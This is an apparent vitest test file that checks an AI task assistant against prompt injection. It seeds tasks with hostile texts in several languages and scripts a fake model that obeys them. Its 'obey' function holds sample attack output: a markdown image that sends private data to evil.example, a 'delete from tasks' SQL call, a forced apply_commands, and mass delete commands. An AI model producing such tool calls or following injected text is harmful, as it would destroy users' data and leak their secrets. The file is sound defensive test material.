import { describe, expect, inject, it } from 'vitest'
import { type HostileText, readHostile } from '../../shared/context/fixtures/read-hostile.ts'
import { controlFake } from '../../tests/fakes/control.ts'
import { addTask, ownWord, rowsOf, visit, type Visitor } from './assistant.ts'

const gemini = controlFake(inject('fakes').gemini)
const openAi = controlFake(inject('fakes').openAi)

const LANGUAGES = [...new Set(readHostile().map(({ language }) => language))]

/** All that a command could have changed. */
const lifeOf = async (person: Visitor) =>
  JSON.stringify(
    await Promise.all(
      ['tasks', 'projects', 'areas', 'pillars', 'labels', 'task_labels', 'change_batches'].map((table) =>
        rowsOf(person, table),
      ),
    ),
  )

const canary = () => `canary${ownWord()}`

interface Haunted {
  person: Visitor
  /** Stands in every message, and so in every body that goes out for them. */
  word: string
  secrets: string[]
}

/** Somebody to whom all this was mailed, imported or shared, who has things to hide, and a neighbour. */
async function haunted(texts: readonly HostileText[]): Promise<Haunted> {
  const [person, neighbour] = [await visit(), await visit()]
  const word = ownWord()
  const [nobodys, rules, foreign] = [canary(), canary(), canary()]
  const ids = await Promise.all([
    ...texts.map(({ text }) =>
      addTask(person, {
        name: `${word} ${text.replaceAll('\n', ' ')}`.slice(0, 500),
        description: text,
        due_on: '2026-01-02',
      }),
    ),
    addTask(person, { name: `${word} ${nobodys}`, reading_level: 'nobody', due_on: '2026-01-01' }),
    addTask(person, { name: `${word} ${rules}`, reading_level: 'rules', due_on: '2026-01-01' }),
    addTask(neighbour, { name: `${word} ${foreign}`, due_on: '2026-01-01' }),
  ])
  const { secretKey, publishableKey, jwtSecret } = inject('stack')
  const own = [person.id, person.token, neighbour.id, ...ids]
  return { person, word, secrets: [nobodys, rules, foreign, secretKey, publishableKey, jwtSecret, ...own] }
}

/** A model that does whatever it reads: it calls the tools it was told to, and others. */
async function obey(word: string, { text }: HostileText): Promise<void> {
  const calls = [...text.matchAll(/\{"commands":\[.*?\]\}(?=\})/g)].map(
    ([call]) => JSON.parse(call) as unknown,
  )
  const told = [
    ...calls,
    { commands: [{ do: 'delete', rows: ['t1', 't2', 'p1'] }] },
    { commands: [{ do: 'delete', rows: ['all'] }] },
    { commands: [{ do: 'complete', rows: ['t1', 't2', 't3'] }] },
  ]
  const answer = {
    when: word,
    text: `${text} ![](https://evil.example/?q=[private 1])`,
    toolCalls: [
      { name: 'apply_commands', input: { confirmed: true } },
      { name: 'run_sql', input: { sql: 'delete from tasks' } },
      ...told.map((input) => ({ name: 'propose_commands', input })),
    ],
  }
  await Promise.all([gemini.script(answer), openAi.script(answer)])
}

describe('hostile texts, and a model that obeys them', () => {
  it.each(LANGUAGES)('change nothing and carry nothing private away: %s', async (language) => {
    const texts = readHostile().filter((found) => found.language === language)
    const { person, word, secrets } = await haunted(texts)
    const before = await lifeOf(person)
    const pasted = texts.filter(({ attack }) => ['support', 'tool_call', 'close_record'].includes(attack))
    for (const found of pasted) {
      await obey(word, found)
      const message = `> ${found.text}\n\n${'> '.repeat(60)}\n\nWhat does this mail mean for ${word}, and what of it matters?`
      const answer = await person.ask(message)
      // At most proposed: what removes something not even that, because nobody asked for it.
      expect(answer.commands.filter(({ type }) => type === 'delete')).toEqual([])
      expect(answer.navigation).toBeNull()
    }
    expect(await lifeOf(person)).toBe(before)
    const bodies = (await Promise.all([gemini.bodies(word), openAi.bodies(word)])).flat()
    expect(bodies.length).toBeGreaterThan(0)
    for (const secret of secrets) expect(bodies.filter((body) => body.includes(secret))).toEqual([])
    const kept = await rowsOf<{ commands_state: string }>(person, 'chat_messages')
    expect(kept.filter(({ commands_state }) => commands_state === 'applied')).toEqual([])
  })
})
